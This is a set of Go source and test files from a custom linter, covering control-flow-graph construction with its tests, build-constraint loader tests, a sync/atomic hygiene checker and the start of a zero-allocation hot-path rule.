		// cases at all it blocks forever, so after stays unreachable
		// (no edge from head was ever added).
		_ = hasDefault
		b.cur = after

	case *ast.ReturnStmt:
		b.add(s)
		b.jump(b.cfg.Exit)

	case *ast.BranchStmt:
		b.add(s)
		b.branch(s)

	case *ast.DeferStmt:
		b.add(s)
		b.cfg.Defers = append(b.cfg.Defers, s)

	case *ast.ExprStmt:
		b.add(s)
		if isPanicCall(s.X) {
			// A panic abandons the normal control flow; the deferred
			// calls still run, but "all paths out of the function" rules
			// conventionally exclude panic paths.
			b.cur = nil
		}

	default:
		// AssignStmt, DeclStmt, IncDecStmt, SendStmt, GoStmt, EmptyStmt.
		if _, ok := s.(*ast.EmptyStmt); ok {
			return
		}
		b.add(s)
	}
}

// switchClauses builds the clause blocks of a switch/type-switch,
// including fallthrough edges and the implicit no-default exit.
func (b *cfgBuilder) switchClauses(label string, list []ast.Stmt, split func(*ast.CaseClause) ([]ast.Node, []ast.Stmt, bool)) {
	head := b.block()
	after := b.newBlock()
	b.frames = append(b.frames, loopFrame{label: label, breakTarget: after})
	bodies := make([]*Block, len(list))
	hasDefault := false
	for i, cs := range list {
		c := cs.(*ast.CaseClause)
		matches, _, isDefault := split(c)
		if isDefault {
			hasDefault = true
		}
		clause := b.newBlock()
		bodies[i] = clause
		head.Succs = append(head.Succs, clause)
		clause.Nodes = append(clause.Nodes, matches...)
	}
	if !hasDefault {
		head.Succs = append(head.Succs, after)
	}
	for i, cs := range list {
		c := cs.(*ast.CaseClause)
		_, body, _ := split(c)
		b.cur = bodies[i]
		// fallthrough inside the body is resolved against the next
		// clause block.
		b.fallTargets = append(b.fallTargets, nil)
		if i+1 < len(list) {
			b.fallTargets[len(b.fallTargets)-1] = bodies[i+1]
		}
		b.stmtList(body)
		b.fallTargets = b.fallTargets[:len(b.fallTargets)-1]
		b.jump(after)
	}
	b.frames = b.frames[:len(b.frames)-1]
	b.cur = after
}

func (b *cfgBuilder) branch(s *ast.BranchStmt) {
	switch s.Tok.String() {
	case "break":
		for i := len(b.frames) - 1; i >= 0; i-- {
			f := b.frames[i]
			if s.Label != nil && f.label != s.Label.Name {
				continue
			}
			b.jump(f.breakTarget)
			return
		}
		b.cur = nil
	case "continue":
		for i := len(b.frames) - 1; i >= 0; i-- {
			f := b.frames[i]
			if !f.isLoop {
				continue
			}
			if s.Label != nil && f.label != s.Label.Name {
				continue
			}
			b.jump(f.contTarget)
			return
		}
		b.cur = nil
	case "goto":
		if s.Label != nil {
			b.gotos = append(b.gotos, pendingGoto{from: b.block(), label: s.Label.Name})
		}
		b.cur = nil
	case "fallthrough":
		if n := len(b.fallTargets); n > 0 && b.fallTargets[n-1] != nil {
			b.jump(b.fallTargets[n-1])
			return
		}
		b.cur = nil
	}
}

// patchGotos resolves forward gotos once every label block exists.
func (b *cfgBuilder) patchGotos() {
	for _, g := range b.gotos {
		dst, ok := b.labels[g.label]
		if !ok {
			continue // malformed source; the type checker already rejected it
		}
		found := false
		for _, s := range g.from.Succs {
			if s == dst {
				found = true
			}
		}
		if !found {
			g.from.Succs = append(g.from.Succs, dst)
		}
	}
}

// takeLabel consumes the pending statement label (set by LabeledStmt for
// the loop/switch that follows it).
func (b *cfgBuilder) takeLabel() string {
	l := b.pendingLabel
	b.pendingLabel = ""
	return l
}

// isPanicCall reports a direct call to the panic builtin.
func isPanicCall(e ast.Expr) bool {
	call, ok := e.(*ast.CallExpr)
	if !ok {
		return false
	}
	id, ok := call.Fun.(*ast.Ident)
	return ok && id.Name == "panic"
}

// walkBlockNode visits n and its evaluated subexpressions the way the CFG
// means them: a *ast.RangeStmt node is a loop header, so only its
// Key/Value/X are visited (the body lives in other blocks). Everything
// else walks normally. fn returning false prunes the subtree, which is
// how consumers stop at nested function literals.
func walkBlockNode(n ast.Node, fn func(ast.Node) bool) {
	if rs, ok := n.(*ast.RangeStmt); ok {
		// The header node itself is visible (taint seeds off it), but
		// only its evaluated parts are descended.
		if !fn(rs) {
			return
		}
		for _, e := range []ast.Expr{rs.Key, rs.Value, rs.X} {
			if e != nil {
				ast.Inspect(e, fn)
			}
		}
		return
	}
	ast.Inspect(n, fn)
}
