package lint

import (
	"go/ast"
	"go/parser"
	"go/token"
	"testing"
)

// buildFromSrc lowers one function body (given as statements) to a CFG.
// BuildCFG is pure syntax, so no type checking is needed here.
func buildFromSrc(t *testing.T, body string) *CFG {
	t.Helper()
	src := "package p\nfunc f() {\n" + body + "\n}\n"
	fset := token.NewFileSet()
	f, err := parser.ParseFile(fset, "t.go", src, parser.SkipObjectResolution)
	if err != nil {
		t.Fatalf("parse: %v", err)
	}
	return BuildCFG(f.Decls[0].(*ast.FuncDecl).Body)
}

// blockWithIdent returns the first block whose nodes mention the named
// identifier — tests mark positions with uniquely-named calls.
func blockWithIdent(g *CFG, name string) *Block {
	for _, b := range g.Blocks {
		for _, n := range b.Nodes {
			found := false
			walkBlockNode(n, func(m ast.Node) bool {
				if id, ok := m.(*ast.Ident); ok && id.Name == name {
					found = true
				}
				return !found
			})
			if found {
				return b
			}
		}
	}
	return nil
}

// blockWithBranch returns the first block containing a break/continue/
// goto/fallthrough statement with the given token.
func blockWithBranch(g *CFG, tok string) *Block {
	for _, b := range g.Blocks {
		for _, n := range b.Nodes {
			if br, ok := n.(*ast.BranchStmt); ok && br.Tok.String() == tok {
				return b
			}
		}
	}
	return nil
}

// reaches reports whether to is reachable from from along Succs edges.
func reaches(from, to *Block) bool {
	seen := map[*Block]bool{}
	var visit func(b *Block) bool
	visit = func(b *Block) bool {
		if b == to {
			return true
		}
		if seen[b] {
			return false
		}
		seen[b] = true
		for _, s := range b.Succs {
			if visit(s) {
				return true
			}
		}
		return false
	}
	return visit(from)
}

func hasSucc(b, s *Block) bool {
	for _, x := range b.Succs {
		if x == s {
			return true
		}
	}
	return false
}

func TestCFGStraightLine(t *testing.T) {
	g := buildFromSrc(t, "a(); b()")
	if got := len(g.Entry.Nodes); got != 2 {
		t.Fatalf("entry holds %d nodes, want 2", got)
	}
	if !reaches(g.Entry, g.Exit) {
		t.Error("exit unreachable in straight-line code")
	}
}

func TestCFGIfElse(t *testing.T) {
	g := buildFromSrc(t, `
if cond() {
	thenMark()
} else {
	elseMark()
}
joinMark()`)
	condBlk := blockWithIdent(g, "cond")
	thenBlk := blockWithIdent(g, "thenMark")
	elseBlk := blockWithIdent(g, "elseMark")
	joinBlk := blockWithIdent(g, "joinMark")
	if condBlk == nil || thenBlk == nil || elseBlk == nil || joinBlk == nil {
		t.Fatal("marker block missing")
	}
	if !hasSucc(condBlk, thenBlk) || !hasSucc(condBlk, elseBlk) {
		t.Error("condition block does not branch to both arms")
	}
	if !reaches(thenBlk, joinBlk) || !reaches(elseBlk, joinBlk) {
		t.Error("arms do not rejoin")
	}
	if reaches(thenBlk, elseBlk) || reaches(elseBlk, thenBlk) {
		t.Error("arms must be exclusive")
	}
}

func TestCFGIfReturn(t *testing.T) {
	g := buildFromSrc(t, `
if cond() {
	return
}
afterMark()`)
	condBlk := blockWithIdent(g, "cond")
	afterBlk := blockWithIdent(g, "afterMark")
	if !hasSucc(condBlk, afterBlk) {
		t.Error("false edge from if-without-else missing")
	}
	if !reaches(afterBlk, g.Exit) {
		t.Error("fallthrough path does not reach exit")
	}
	// The return arm reaches Exit without passing afterMark.
	var retBlk *Block
	for _, s := range condBlk.Succs {
		if s != afterBlk {
			retBlk = s
		}
	}
	if retBlk == nil || !reaches(retBlk, g.Exit) || reaches(retBlk, afterBlk) {
		t.Error("return arm must reach exit directly")
	}
}

func TestCFGForLoop(t *testing.T) {
	g := buildFromSrc(t, `
for i := 0; cond(); i++ {
	bodyMark()
}
afterMark()`)
	condBlk := blockWithIdent(g, "cond")
	bodyBlk := blockWithIdent(g, "bodyMark")
	afterBlk := blockWithIdent(g, "afterMark")
	if !hasSucc(condBlk, bodyBlk) || !hasSucc(condBlk, afterBlk) {
		t.Error("loop head must branch to body and after")
	}
	if !reaches(bodyBlk, condBlk) {
		t.Error("back edge (body -> head, via post) missing")
	}
}

func TestCFGBreakContinue(t *testing.T) {
	g := buildFromSrc(t, `
for cond() {
	if wantBreak() {
		break
	}
	if wantContinue() {
		continue
	}
	bodyMark()
}
afterMark()`)
	afterBlk := blockWithIdent(g, "afterMark")
	condBlk := blockWithIdent(g, "cond")
	if br := blockWithBranch(g, "break"); br == nil || !hasSucc(br, afterBlk) {
		t.Error("break must jump to the loop's after block")
	}
	if co := blockWithBranch(g, "continue"); co == nil || !reaches(co, condBlk) || hasSucc(co, blockWithIdent(g, "bodyMark")) {
		t.Error("continue must return to the loop head, skipping the rest of the body")
	}
}

func TestCFGRange(t *testing.T) {
	g := buildFromSrc(t, `
for k := range m {
	bodyMark(k)
}
afterMark()`)
	var head *Block
	for _, b := range g.Blocks {
		for _, n := range b.Nodes {
			if _, ok := n.(*ast.RangeStmt); ok {
				head = b
			}
		}
	}
	if head == nil {
		t.Fatal("range header node not placed in any block")
	}
	bodyBlk := blockWithIdent(g, "bodyMark")
	afterBlk := blockWithIdent(g, "afterMark")
	if !hasSucc(head, bodyBlk) || !hasSucc(head, afterBlk) {
		t.Error("range head must branch to body and after")
	}
	if !reaches(bodyBlk, head) {
		t.Error("range back edge missing")
	}
}

func TestCFGSwitchFallthrough(t *testing.T) {
	g := buildFromSrc(t, `
switch tag() {
case 1:
	aMark()
	fallthrough
case 2:
	bMark()
default:
	dMark()
}
afterMark()`)
	aBlk := blockWithIdent(g, "aMark")
	bBlk := blockWithIdent(g, "bMark")
	dBlk := blockWithIdent(g, "dMark")
	afterBlk := blockWithIdent(g, "afterMark")
	if !hasSucc(aBlk, bBlk) {
		t.Error("fallthrough edge to the next clause missing")
	}
	for name, blk := range map[string]*Block{"a": aBlk, "b": bBlk, "d": dBlk} {
		if !reaches(blk, afterBlk) {
			t.Errorf("clause %s does not reach the after block", name)
		}
	}
	// With a default clause every path enters some clause: the head must
	// not edge straight to after.
	headBlk := blockWithIdent(g, "tag")
	if hasSucc(headBlk, afterBlk) {
		t.Error("switch with default must not fall through the head")
	}
}

func TestCFGSwitchNoDefault(t *testing.T) {
	g := buildFromSrc(t, `
switch tag() {
case 1:
	aMark()
}
afterMark()`)
	headBlk := blockWithIdent(g, "tag")
	afterBlk := blockWithIdent(g, "afterMark")
	if !hasSucc(headBlk, afterBlk) {
		t.Error("switch without default needs the implicit no-match edge")
	}
}

func TestCFGSelect(t *testing.T) {
	g := buildFromSrc(t, `
select {
case <-ch:
	aMark()
case ch2 <- v:
	bMark()
}
afterMark()`)
	aBlk := blockWithIdent(g, "aMark")
	bBlk := blockWithIdent(g, "bMark")
	afterBlk := blockWithIdent(g, "afterMark")
	if !reaches(aBlk, afterBlk) || !reaches(bBlk, afterBlk) {
		t.Error("select clauses must rejoin after the statement")
	}
	if reaches(aBlk, bBlk) {
		t.Error("select clauses must be exclusive")
	}
}

func TestCFGDeferRecorded(t *testing.T) {
	g := buildFromSrc(t, "defer cleanup()\nworkMark()")
	if len(g.Defers) != 1 {
		t.Fatalf("recorded %d defers, want 1", len(g.Defers))
	}
	if blockWithIdent(g, "cleanup") == nil {
		t.Error("defer statement not placed in a block")
	}
}

func TestCFGDeadCodeUnreachable(t *testing.T) {
	g := buildFromSrc(t, "return\ndeadMark()")
	deadBlk := blockWithIdent(g, "deadMark")
	if deadBlk == nil {
		t.Fatal("dead statement has no block")
	}
	if g.Reachable()[deadBlk] {
		t.Error("statements after return must be unreachable")
	}
}

func TestCFGPanicTerminatesPath(t *testing.T) {
	g := buildFromSrc(t, `panic("boom")`)
	if g.Reachable()[g.Exit] {
		t.Error("unconditional panic must not reach the normal exit")
	}

	g = buildFromSrc(t, `
if cond() {
	panic("boom")
}
afterMark()`)
	if !g.Reachable()[g.Exit] {
		t.Error("exit must stay reachable via the non-panic arm")
	}
	panicBlk := blockWithIdent(g, "panic")
	if panicBlk != nil && reaches(panicBlk, g.Exit) && panicBlk != blockWithIdent(g, "cond") {
		t.Error("panic arm must not flow to the normal exit")
	}
}

func TestCFGGoto(t *testing.T) {
	g := buildFromSrc(t, `
goto L
L:
	aMark()`)
	gotoBlk := blockWithBranch(g, "goto")
	aBlk := blockWithIdent(g, "aMark")
	if gotoBlk == nil || aBlk == nil {
		t.Fatal("goto or label block missing")
	}
	if !hasSucc(gotoBlk, aBlk) {
		t.Error("goto edge to label block missing")
	}
	if !g.Reachable()[aBlk] {
		t.Error("label block must be reachable through the goto")
	}
}

func TestCFGLabeledBreak(t *testing.T) {
	g := buildFromSrc(t, `
L:
	for outer() {
		for inner() {
			break L
		}
	}
afterMark()`)
	afterBlk := blockWithIdent(g, "afterMark")
	if br := blockWithBranch(g, "break"); br == nil || !hasSucc(br, afterBlk) {
		t.Error("labeled break must exit the outer loop")
	}
}

// TestCFGDeterministicIndexes pins that two builds of the same body agree
// block for block — the property the byte-identical-findings guarantee
// rests on.
func TestCFGDeterministicIndexes(t *testing.T) {
	const body = `
for i := 0; i < n; i++ {
	if odd(i) {
		continue
	}
	switch i {
	case 0:
		zero()
	default:
		other()
	}
}
done()`
	a := buildFromSrc(t, body)
	b := buildFromSrc(t, body)
	if len(a.Blocks) != len(b.Blocks) {
		t.Fatalf("block counts differ: %d vs %d", len(a.Blocks), len(b.Blocks))
	}
	for i := range a.Blocks {
		if len(a.Blocks[i].Nodes) != len(b.Blocks[i].Nodes) {
			t.Errorf("block %d node counts differ", i)
		}
		if len(a.Blocks[i].Succs) != len(b.Blocks[i].Succs) {
			t.Errorf("block %d edge counts differ", i)
		}
		for j := range a.Blocks[i].Succs {
			if a.Blocks[i].Succs[j].Index != b.Blocks[i].Succs[j].Index {
				t.Errorf("block %d succ %d diverges", i, j)
			}
		}
	}
}
