package lint

import (
	"fmt"
	"os"
	"path/filepath"
	"runtime"
	"testing"
)

// TestLoaderHonorsBuildConstraints: a package carrying per-platform
// variants of the same declaration (filename suffixes and //go:build
// lines) must type-check — the loader keeps only the host platform's
// files, like the real build does.
func TestLoaderHonorsBuildConstraints(t *testing.T) {
	root := t.TempDir()
	write := func(rel, src string) {
		t.Helper()
		p := filepath.Join(root, rel)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(src), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	write("go.mod", "module constrained\n\ngo 1.22\n")
	write("plat/doc.go", "// Package plat exists to carry platform variants.\npackage plat\n")
	// One filename-suffix variant per arch, all declaring the same const.
	for _, arch := range []string{"amd64", "arm64", "riscv64"} {
		write(fmt.Sprintf("plat/num_%s.go", arch),
			fmt.Sprintf("package plat\n\nconst num = %d\n", len(arch)))
	}
	// A //go:build pair: host OS vs everything else, same declaration.
	write("plat/tagged_host.go",
		fmt.Sprintf("//go:build %s\n\npackage plat\n\nconst tagged = true\n", runtime.GOOS))
	write("plat/tagged_other.go",
		fmt.Sprintf("//go:build !%s\n\npackage plat\n\nconst tagged = false\n", runtime.GOOS))
	// A combined form mirroring the wildnet sendmmsg layout.
	write("plat/combo.go",
		fmt.Sprintf("//go:build %s && (%s || fakearch)\n\npackage plat\n\nvar combo = num\n",
			runtime.GOOS, runtime.GOARCH))

	l, err := NewLoader(root)
	if err != nil {
		t.Fatal(err)
	}
	p, err := l.LoadDir(filepath.Join(root, "plat"))
	if err != nil {
		t.Fatalf("constrained package failed to load: %v", err)
	}
	// Exactly doc.go, the host-arch num file, tagged_host.go, combo.go.
	if got := len(p.Files); got != 4 {
		t.Errorf("loader kept %d files, want 4", got)
	}
	if p.Types.Scope().Lookup("combo") == nil {
		t.Error("combo declaration missing — //go:build file dropped")
	}
}

// TestSuffixMatchesHost pins the filename rules: a trailing _name only
// constrains when name is a recognized GOOS or GOARCH.
func TestSuffixMatchesHost(t *testing.T) {
	cases := map[string]bool{
		"plain.go":                      true,
		"num_" + runtime.GOARCH + ".go": true,
		"x_" + runtime.GOOS + "_" + runtime.GOARCH + ".go": true,
		"x_mips64le.go":    runtime.GOARCH == "mips64le",
		"x_plan9.go":       runtime.GOOS == "plan9",
		"x_plan9_amd64.go": runtime.GOOS == "plan9" && runtime.GOARCH == "amd64",
		"snapshot_util.go": true, // "util" is no GOOS/GOARCH
		"wasm.go":          true, // no underscore, no constraint
	}
	for name, want := range cases {
		if got := suffixMatchesHost(name); got != want {
			t.Errorf("suffixMatchesHost(%q) = %v, want %v", name, got, want)
		}
	}
}
