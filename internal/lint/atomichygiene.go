package lint

import (
	"go/ast"
	"go/token"
	"go/types"
	"sort"
	"strings"
)

// checkAtomicHygiene polices the two ways sync/atomic goes wrong in a
// high-concurrency engine like the sharded scanner:
//
//   - Mixed access: a field or package-level variable touched through
//     sync/atomic anywhere must be touched atomically everywhere. One
//     plain `s.n++` next to a fleet of atomic.AddUint64(&s.n, 1) calls is
//     a data race the race detector only catches if a test happens to
//     interleave it. The location is keyed by its declared field/var
//     object, so the rule sees mixed access across methods and files.
//     Initialization is exempt: composite-literal fields and writes to a
//     value freshly allocated in the same function are pre-publication
//     and race-free by construction.
//
//   - Non-atomic read-modify-write: a Store whose value derives from a
//     Load of the same location (directly or through intermediate
//     variables, resolved over def-use chains) is a lost update under
//     concurrency — two goroutines both Load n, both Store n+1, one
//     increment vanishes. Use Add, or CompareAndSwap in a retry loop.
//     The pattern is recognized for both the free functions
//     (atomic.StoreUint64(&x, atomic.LoadUint64(&x)+1)) and the typed
//     atomics (v := x.Load(); ...; x.Store(v+1)).
func checkAtomicHygiene(p *Package, cfg *Config, emit func(token.Pos, string, string)) {
	fields := atomicFreeFuncFields(p)
	if len(fields) > 0 {
		checkMixedAccess(p, fields, emit)
	}
	for _, fs := range funcScopes(p) {
		checkAtomicRMW(p, fs, emit)
	}
}

// atomicFreeFuncFields collects the field/var objects accessed through
// sync/atomic free functions (&x arguments). Typed atomics (atomic.Uint64
// fields) are excluded here: their API makes plain access impossible.
func atomicFreeFuncFields(p *Package) map[types.Object]string {
	out := map[types.Object]string{}
	for _, f := range p.Files {
		ast.Inspect(f, func(n ast.Node) bool {
			call, ok := n.(*ast.CallExpr)
			if !ok {
				return true
			}
			_, name, ok := pkgFuncCall(p, call, "sync/atomic")
			if !ok || len(call.Args) == 0 {
				return true
			}
			if !atomicOpName(name) {
				return true
			}
			if obj, text := addrTargetObject(p, call.Args[0]); obj != nil {
				out[obj] = text
			}
			return true
		})
	}
	return out
}

// atomicOpName reports whether name is a sync/atomic access function
// (Load*/Store*/Add*/Swap*/CompareAndSwap*).
func atomicOpName(name string) bool {
	for _, prefix := range []string{"Load", "Store", "Add", "Swap", "CompareAndSwap", "And", "Or"} {
		if strings.HasPrefix(name, prefix) {
			return true
		}
	}
	return false
}

// addrTargetObject resolves the &expr first argument of an atomic free
// function to the field or variable object it addresses.
func addrTargetObject(p *Package, arg ast.Expr) (types.Object, string) {
	un, ok := arg.(*ast.UnaryExpr)
	if !ok || un.Op != token.AND {
		return nil, ""
	}
	switch e := un.X.(type) {
	case *ast.SelectorExpr:
		if sel, ok := p.Info.Selections[e]; ok {
			return sel.Obj(), exprText(e)
		}
		if obj := p.Info.Uses[e.Sel]; obj != nil {
			return obj, exprText(e)
		}
	case *ast.Ident:
		if obj := p.Info.Uses[e]; obj != nil {
			return obj, e.Name
		}
	}
	return nil, ""
}

// checkMixedAccess flags plain (non-atomic) reads and writes of the
// atomically-accessed locations.
func checkMixedAccess(p *Package, fields map[types.Object]string, emit func(token.Pos, string, string)) {
	type finding struct {
		pos  token.Pos
		text string
	}
	var found []finding
	for _, f := range p.Files {
		// fresh tracks, per function, locals whose every definition is a
		// fresh allocation — pre-publication state the function owns.
		inspectStack(f, func(n ast.Node, stack []ast.Node) bool {
			// Skip the &x argument position of atomic calls themselves.
			if call, ok := n.(*ast.CallExpr); ok {
				if _, name, ok2 := pkgFuncCall(p, call, "sync/atomic"); ok2 && atomicOpName(name) {
					// Visit value arguments but not the address arg.
					for _, a := range call.Args[1:] {
						ast.Inspect(a, func(m ast.Node) bool {
							if h := hitAtomicField(p, m, fields); h != "" {
								found = append(found, finding{m.Pos(), h})
								return false
							}
							return true
						})
					}
					return false
				}
			}
			// Composite literals initialize; do not descend into their
			// key positions but values may still read shared state.
			if kv, ok := n.(*ast.KeyValueExpr); ok {
				if _, isComposite := parentComposite(stack); isComposite {
					if h := hitAtomicFieldExprOnly(p, kv.Value, fields); h.text != "" {
						found = append(found, finding{h.pos, h.text})
					}
					return false
				}
			}
			if h := hitAtomicField(p, n, fields); h != "" {
				// Exempt writes/reads through a base object freshly
				// allocated in the enclosing function.
				if sel, ok := n.(*ast.SelectorExpr); ok && freshlyAllocatedBase(p, stack, sel) {
					return false
				}
				found = append(found, finding{n.(ast.Expr).Pos(), h})
				return false
			}
			return true
		})
	}
	sort.Slice(found, func(i, j int) bool { return found[i].pos < found[j].pos })
	for _, f := range found {
		emit(f.pos, RuleAtomicHygiene,
			f.text+" is accessed with sync/atomic elsewhere in this package; this plain access races with the atomic ones — use the atomic API here too")
	}
}

type hitInfo struct {
	pos  token.Pos
	text string
}

func hitAtomicFieldExprOnly(p *Package, e ast.Expr, fields map[types.Object]string) hitInfo {
	var h hitInfo
	ast.Inspect(e, func(m ast.Node) bool {
		if h.text != "" {
			return false
		}
		if t := hitAtomicField(p, m, fields); t != "" {
			h = hitInfo{m.Pos(), t}
			return false
		}
		return true
	})
	return h
}

// hitAtomicField reports whether n is a selector/ident resolving to a
// tracked atomic location, returning its declared name.
func hitAtomicField(p *Package, n ast.Node, fields map[types.Object]string) string {
	switch e := n.(type) {
	case *ast.SelectorExpr:
		var obj types.Object
		if sel, ok := p.Info.Selections[e]; ok {
			obj = sel.Obj()
		} else {
			obj = p.Info.Uses[e.Sel]
		}
		if obj != nil {
			if _, tracked := fields[obj]; tracked {
				return exprText(e)
			}
		}
	case *ast.Ident:
		if obj := p.Info.Uses[e]; obj != nil {
			if _, tracked := fields[obj]; tracked {
				// Only package-level vars are tracked by bare name; a
				// field can't appear as a bare ident outside its struct.
				if v, isVar := obj.(*types.Var); isVar && !v.IsField() {
					return e.Name
				}
			}
		}
	}
	return ""
}

// parentComposite reports whether the stack's innermost expression parent
// is a composite literal.
func parentComposite(stack []ast.Node) (*ast.CompositeLit, bool) {
	if len(stack) < 2 {
		return nil, false
	}
	cl, ok := stack[len(stack)-2].(*ast.CompositeLit)
	return cl, ok
}

// freshlyAllocatedBase reports whether the selector's root object is a
// local variable of the enclosing function whose every definition is a
// fresh allocation (&T{...}, T{...}, new(T)) — the constructor pattern,
// where plain field writes precede publication.
func freshlyAllocatedBase(p *Package, stack []ast.Node, sel *ast.SelectorExpr) bool {
	root := sel.X
	for {
		switch e := root.(type) {
		case *ast.SelectorExpr:
			root = e.X
		case *ast.ParenExpr:
			root = e.X
		case *ast.StarExpr:
			root = e.X
		default:
			goto done
		}
	}
done:
	id, ok := root.(*ast.Ident)
	if !ok {
		return false
	}
	obj := p.Info.Uses[id]
	if obj == nil {
		obj = p.Info.Defs[id]
	}
	v, ok := obj.(*types.Var)
	if !ok || v.IsField() {
		return false
	}
	body := enclosingFuncBody(stack)
	if body == nil || !within(v.Pos(), body) {
		return false
	}
	du := buildDefUse(p, body)
	defs := du.defs[obj]
	if len(defs) == 0 {
		// `var x T` with zero value: fresh by construction.
		return true
	}
	for _, def := range defs {
		if !isFreshAlloc(p, def) {
			return false
		}
	}
	return true
}

// isFreshAlloc reports whether e evaluates to newly-allocated storage.
func isFreshAlloc(p *Package, e ast.Expr) bool {
	switch e := e.(type) {
	case *ast.CompositeLit:
		return true
	case *ast.UnaryExpr:
		if e.Op == token.AND {
			_, isLit := e.X.(*ast.CompositeLit)
			return isLit
		}
	case *ast.CallExpr:
		if id, ok := e.Fun.(*ast.Ident); ok {
			if b, ok := p.Info.Uses[id].(*types.Builtin); ok && b.Name() == "new" {
				return true
			}
		}
	}
	return false
}

// ---- non-atomic read-modify-write ----

// atomicAccess is one Load or Store site on a location key.
type atomicAccess struct {
	key  string
	kind string // "Load" or "Store"
	call *ast.CallExpr
	// value is the stored expression (Store only).
	value ast.Expr
}

// checkAtomicRMW flags Stores whose value derives from a Load of the same
// location within one function.
func checkAtomicRMW(p *Package, fs funcScope, emit func(token.Pos, string, string)) {
	var accesses []atomicAccess
	ast.Inspect(fs.body, func(n ast.Node) bool {
		call, ok := n.(*ast.CallExpr)
		if !ok {
			return true
		}
		if a, ok := classifyAtomicAccess(p, call); ok {
			accesses = append(accesses, a)
		}
		return true
	})
	if len(accesses) < 2 {
		return
	}
	loadsByKey := map[string][]*ast.CallExpr{}
	for _, a := range accesses {
		if a.kind == "Load" {
			loadsByKey[a.key] = append(loadsByKey[a.key], a.call)
		}
	}
	if len(loadsByKey) == 0 {
		return
	}
	du := buildDefUse(p, fs.body)
	for _, a := range accesses {
		if a.kind != "Store" || a.value == nil {
			continue
		}
		loads := loadsByKey[a.key]
		if len(loads) == 0 {
			continue
		}
		isLoadOfKey := func(e ast.Expr) bool {
			call, ok := e.(*ast.CallExpr)
			if !ok {
				return false
			}
			for _, l := range loads {
				if l == call {
					return true
				}
			}
			return false
		}
		if du.derives(a.value, isLoadOfKey) {
			emit(a.call.Pos(), RuleAtomicHygiene,
				"Store of a value derived from an atomic Load of the same location is a lost update under concurrency; use Add or a CompareAndSwap loop")
		}
	}
}

// classifyAtomicAccess recognizes Load/Store through the sync/atomic free
// functions and the typed-atomic methods, keyed by access path.
func classifyAtomicAccess(p *Package, call *ast.CallExpr) (atomicAccess, bool) {
	// Free functions: atomic.LoadUint64(&x), atomic.StoreUint64(&x, v).
	if _, name, ok := pkgFuncCall(p, call, "sync/atomic"); ok {
		var kind string
		switch {
		case strings.HasPrefix(name, "Load"):
			kind = "Load"
		case strings.HasPrefix(name, "Store"):
			kind = "Store"
		default:
			return atomicAccess{}, false
		}
		if len(call.Args) == 0 {
			return atomicAccess{}, false
		}
		un, ok := call.Args[0].(*ast.UnaryExpr)
		if !ok || un.Op != token.AND {
			return atomicAccess{}, false
		}
		key, ok := exprKey(p, un.X)
		if !ok {
			return atomicAccess{}, false
		}
		a := atomicAccess{key: key, kind: kind, call: call}
		if kind == "Store" && len(call.Args) > 1 {
			a.value = call.Args[1]
		}
		return a, true
	}
	// Typed atomics: x.Load(), x.Store(v) on sync/atomic named types.
	sel, ok := call.Fun.(*ast.SelectorExpr)
	if !ok {
		return atomicAccess{}, false
	}
	name := sel.Sel.Name
	if name != "Load" && name != "Store" {
		return atomicAccess{}, false
	}
	fn, ok := p.Info.Uses[sel.Sel].(*types.Func)
	if !ok || fn.Pkg() == nil || fn.Pkg().Path() != "sync/atomic" {
		return atomicAccess{}, false
	}
	key, ok := exprKey(p, sel.X)
	if !ok {
		return atomicAccess{}, false
	}
	a := atomicAccess{key: key, kind: name, call: call}
	if name == "Store" && len(call.Args) > 0 {
		a.value = call.Args[0]
	}
	return a, true
}
