package lint

import (
	"go/ast"
	"go/token"
	"go/types"
	"sort"
	"strings"
)

// checkHotPath enforces the zero-allocation contract on functions
// annotated
//
//	//lint:hotpath <reason>
//
// (doc comment or the line directly above the declaration). The sweep
// send/receive loops run tens of millions of times per scan; PR 2 made
// them allocation-free at steady state and the AllocsPerRun regression
// tests pin that, but a test only catches the paths it exercises. This
// rule rejects allocating *constructs* on every reachable path of an
// annotated function, so a branch the tests never take cannot smuggle an
// allocation in:
//
//   - append (growth copies the backing array; hot paths write into
//     caller-provided or pooled storage instead);
//   - string concatenation and string<->[]byte/[]rune conversions;
//   - interface boxing at call sites (a concrete value passed to an
//     interface parameter allocates when it escapes — fmt being the
//     classic offender);
//   - function literals that capture variables (closure allocation);
//   - map, slice, and function-typed composite literals, make, and new.
//
// Unreachable blocks (dead code after a return) are skipped: they lie on
// no path. The companion `make lint-escape` target cross-checks this
// rule against the compiler's own escape analysis (-gcflags=-m), so the
// analyzer and the compiler must agree that annotated functions are
// clean; see CheckEscapeLog.
//
// An annotation that precedes anything but a function declaration is
// itself a finding — a misplaced contract enforces nothing.
func checkHotPath(p *Package, cfg *Config, emit func(token.Pos, string, string)) {
	for _, f := range p.Files {
		anns := hotpathAnnotations(p, f)
		used := map[int]bool{}
		for _, decl := range f.Decls {
			fd, ok := decl.(*ast.FuncDecl)
			if !ok || fd.Body == nil {
				continue
			}
			line, ok := annotationFor(p, anns, fd)
			if !ok {
				continue
			}
			used[line] = true
			checkHotPathFunc(p, fd, emit)
		}
		lines := make([]int, 0, len(anns))
		for line := range anns {
			lines = append(lines, line)
		}
		sort.Ints(lines)
		for _, line := range lines {
			if !used[line] {
				emit(anns[line], RuleHotPath,
					"//lint:hotpath annotation is not attached to a function declaration; move it onto the function's doc comment")
			}
		}
	}
}

// hotpathAnnotations maps comment line -> position for every
// //lint:hotpath comment in the file.
func hotpathAnnotations(p *Package, f *ast.File) map[int]token.Pos {
	out := map[int]token.Pos{}
	for _, cg := range f.Comments {
		for _, c := range cg.List {
			rest, ok := strings.CutPrefix(c.Text, "//lint:hotpath")
			if !ok {
				continue
			}
			if rest != "" && rest[0] != ' ' && rest[0] != '\t' {
				continue // some other //lint:hotpathX marker
			}
			out[p.Fset.Position(c.Pos()).Line] = c.Pos()
		}
	}
	return out
}

// annotationFor reports whether fd carries a hotpath annotation: on any
// line of its doc comment, or the line directly above the declaration.
func annotationFor(p *Package, anns map[int]token.Pos, fd *ast.FuncDecl) (int, bool) {
	if fd.Doc != nil {
		for _, c := range fd.Doc.List {
			line := p.Fset.Position(c.Pos()).Line
			if _, ok := anns[line]; ok {
				return line, true
			}
		}
	}
	declLine := p.Fset.Position(fd.Pos()).Line
	if _, ok := anns[declLine-1]; ok {
		return declLine - 1, true
	}
	return 0, false
}

// checkHotPathFunc walks the reachable blocks of one annotated function.
